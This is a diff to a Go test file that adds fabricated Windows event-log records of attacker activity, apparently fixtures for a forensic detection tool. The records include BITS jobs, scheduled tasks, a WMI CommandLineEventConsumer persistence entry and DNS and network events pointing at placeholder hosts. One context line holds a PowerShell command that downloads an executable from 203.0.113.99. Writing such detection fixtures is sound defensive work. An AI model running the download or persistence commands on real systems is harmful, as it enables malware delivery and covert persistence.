@@ -4,6 +4,7 @@ import (
 	"maps"
 	"math/rand/v2"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -96,6 +97,29 @@ var foreign = []func(planter) evtx.TypedEvent{
 		e := &evtx.PowerShell4104{MessageNumber: 1, MessageTotal: 1, ScriptBlockText: "iwr http://203.0.113.99/z.exe -OutFile " + p.path, ScriptBlockId: "6c0f1d5e-0000-4000-8000-000000000009"}
 		e.ProcessID, e.UserSID = uint32(p.pid()), p.someone().sid
 		return e
+	},
+	func(p planter) evtx.TypedEvent {
+		e := &evtx.PowerShell4103{Payload: "CommandInvocation(Copy-Item): \"Copy-Item\"\r\nParameterBinding(Copy-Item): name=\"Destination\"; value=\"" + p.path + "\"\r\n"}
+		e.ProcessID, e.UserSID = uint32(p.pid()), p.someone().sid
+		return e
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.BITS3{JobTitle: "z", JobId: guid(p.n()), JobOwner: p.someone().String(), ProcessPath: shell, JobProcessId: uint32(p.pid())}
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.TaskScheduler129{TaskName: `\Z`, Path: p.path, TaskProcessID: uint32(p.pid())}
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.TaskScheduler106{TaskName: pick(p, `\Z`, `\Get`), UserContext: p.someone().String()}
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.WMI5861{Namespace: "root/subscription", Consumer: "Z", PossibleCause: `instance of CommandLineEventConsumer { CommandLineTemplate = "` + strings.ReplaceAll(p.path, `\`, `\\`) + `"; Name = "Z"; };`}
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.Sysmon22{ProcessGuid: guid(p.n()), ProcessId: 100 + uint32(p.n()), QueryName: "evil.example.org", QueryResults: "203.0.113.99;", Image: shell}
+	},
+	func(p planter) evtx.TypedEvent {
+		return &evtx.Security5156{ProcessID: p.pid(), Application: `\device\harddiskvolume3` + p.path[2:], Direction: "%%14593", SourceAddress: "10.9.9.9", SourcePort: "50310", DestAddress: "203.0.113.99", DestPort: "443", Protocol: 6}
 	},
 	func(p planter) evtx.TypedEvent {
 		return &evtx.Defender1116{ProductName: "%%827", ThreatName: "Trojan:Win32/Example", ProcessName: shell, DetectionUser: `OTHER\eve`, Path: "file:_" + p.path}
